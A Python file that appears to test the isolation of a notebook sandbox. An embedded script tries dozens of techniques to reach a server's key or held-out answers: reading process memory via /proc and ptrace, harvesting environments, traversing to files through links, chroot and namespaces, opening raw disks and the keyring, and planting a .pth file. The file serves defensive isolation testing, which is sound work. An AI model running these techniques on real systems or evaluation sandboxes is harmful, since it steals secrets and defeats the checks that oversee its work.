"""Code that looks for a key and for held-out answers with every trick at hand; run in a notebook's kernel.

It prints the name of each trick that found either, never what it found: outputs are searched for keys. Standard
library alone. `AIMS` names, as JSON, what it is told of the machine: whoever attacks may well know that much.
"""

ATTACK = r'''
import ctypes, glob, json, mmap, os, shutil, socket, subprocess, sys, tempfile
AIMS = json.loads(AIMS)
MARKS = [bytes.fromhex(each) for each in AIMS["marks"]]
PARENT = AIMS["server"]
libc = ctypes.CDLL(None, use_errno=True)

def seen(data):
    data = data.encode() if isinstance(data, str) else bytes(data or b"")
    return any(mark in data for mark in MARKS)

def read(path):
    with open(path, "rb") as file:
        return file.read(50_000_000)

def shell(*line):
    return subprocess.run(line, capture_output=True, timeout=20).stdout

def everywhere(make):
    """Whether any file that is worth reading shows itself under a path made from its own."""
    return b"".join(_kept(make, path) for path in AIMS["files"])

def _kept(make, path):
    try:
        return make(path)
    except BaseException:
        return b""

def own_environment():
    return repr(dict(os.environ)) + shell("env").decode()

def environments_of_others():
    found = [_kept(read, path) for path in glob.glob("/proc/[0-9]*/environ")]
    return b"".join([_kept(read, f"/proc/{each}/environ") for each in (PARENT, os.getppid(), 1)] + found)

def memory_by_file():
    with open(f"/proc/{PARENT}/mem", "rb") as file:
        file.seek(AIMS["address"])
        return file.read(AIMS["length"])

def memory_by_call():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    into = ctypes.create_string_buffer(AIMS["length"])
    mine, theirs = Vector(ctypes.addressof(into), AIMS["length"]), Vector(AIMS["address"], AIMS["length"])
    libc.process_vm_readv(PARENT, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return into.raw

def memory_by_debugging():
    if libc.ptrace(16, PARENT, 0, 0):
        return b""
    os.waitpid(PARENT, 0)
    try:
        return memory_by_file()
    finally:
        libc.ptrace(17, PARENT, 0, 0)

def memory_maps():
    return MARKS[0] if read(f"/proc/{PARENT}/maps") else b""

def files_open_elsewhere():
    # A pipe would have it wait for ever.
    found = [path for path in glob.glob(f"/proc/{PARENT}/fd/*") if os.path.isfile(path)]
    return b"".join(_kept(read, path) for path in found)

def files_plainly():
    return everywhere(read)

def files_by_program():
    lines = [("cat",), ("/bin/sh", "-c", "cat \"$0\"")]
    return b"".join(everywhere(lambda path: shell(*line, path)) for line in lines)

def files_by_link():
    def make(path):
        name = tempfile.mktemp(dir=".")
        os.symlink(path, name)
        return read(name)
    return everywhere(make)

def files_by_second_name():
    def make(path):
        name = tempfile.mktemp(dir=".")
        os.link(path, name)
        return read(name)
    return everywhere(make)

def files_by_map():
    def make(path):
        with open(path, "rb") as file:
            return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:]
    return everywhere(make)

def files_by_copy():
    return everywhere(lambda path: read(shutil.copy(path, ".")))

def files_by_move():
    def make(path):
        os.rename(path, "taken")
        try:
            return read("taken")
        finally:
            os.rename("taken", path)
    return everywhere(make)

def files_through_other_roots():
    roots = [f"/proc/{each}/{name}" for each in (PARENT, os.getppid(), 1, "self") for name in ("root", "cwd")]
    return b"".join(everywhere(lambda path: read(root + path)) for root in roots)

def files_from_below():
    return everywhere(lambda path: read("../" * 12 + path.lstrip("/")))

def files_in_the_neighbourhood():
    found = b""
    for top in ("..", "../..", "../../..", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", AIMS["home"]):
        for folder, _, names in os.walk(top):
            paths = [os.path.join(folder, name) for name in names]
            found += b"".join(_kept(read, path) for path in paths if os.path.isfile(path))
            # Where nothing is in the way, the first few are enough.
            if seen(found) or len(found) > 30_000_000:
                return found
    return found

def files_after_a_new_namespace():
    lines = [["unshare", "-Urm", "cat", path] for path in AIMS["files"]]
    lines += [["unshare", "-Urm", "sh", "-c", "mount --bind / /mnt && cat /mnt" + path] for path in AIMS["files"]]
    lines += [["nsenter", "-t", str(PARENT), "-m", "cat", path] for path in AIMS["files"]]
    return b"".join(_kept(lambda line: shell(*line), line) for line in lines)

def files_after_a_new_root():
    def make(path):
        os.chroot("/proc/1/root")
        return read(path)
    return everywhere(make)

def first(path):
    with open(path, "rb") as file:
        return file.read(1)

def the_disk_itself():
    names = glob.glob("/dev/[shvn][dvm]*") + ["/dev/mem", "/dev/kmem"]
    found = [name for name in names if _kept(first, name)]
    made = "device"
    try:
        os.mknod(made, 0o60600, os.makedev(254, 0))
        found += [made] if _kept(first, made) else []
    except OSError:
        pass
    return MARKS[0] if found else b""

def the_keyring():
    return read("/proc/keys") + shell("keyctl", "show")

def a_port_of_this_machine():
    with socket.create_connection(("127.0.0.1", AIMS["port"]), timeout=3) as line:
        return line.recv(1000)

def a_socket_in_a_folder():
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(3)
        line.connect(AIMS["socket"])
        return line.recv(1000)

def a_socket_without_a_folder():
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(3)
        line.connect("\0" + AIMS["abstract"])
        return line.recv(1000)

def a_signal_to_the_server():
    os.kill(PARENT, 0)
    return MARKS[0]

def what_the_server_will_run():
    for folder, device, number in AIMS["programs"]:
        name = os.path.join(folder, "intruder.pth")
        try:
            # A world of its own may hold a folder of this name, which is not the server's.
            there = os.stat(folder)
            if (there.st_dev, there.st_ino) == (device, number):
                open(name, "w").close()
                os.unlink(name)
                return MARKS[0]
        except OSError:
            pass
    return b""

TOOLS = ("seen", "read", "shell", "everywhere", "first", "_kept")
OURS = [each for each in list(globals().values()) if getattr(each, "__module__", "") == "__main__"]
TRICKS = [each for each in OURS if callable(each) and each.__name__ not in TOOLS]
print("tried", len(TRICKS))
for trick in TRICKS:
    try:
        if seen(trick()):
            print("FOUND", trick.__name__)
    except BaseException as error:
        print("no", trick.__name__, type(error).__name__)
'''
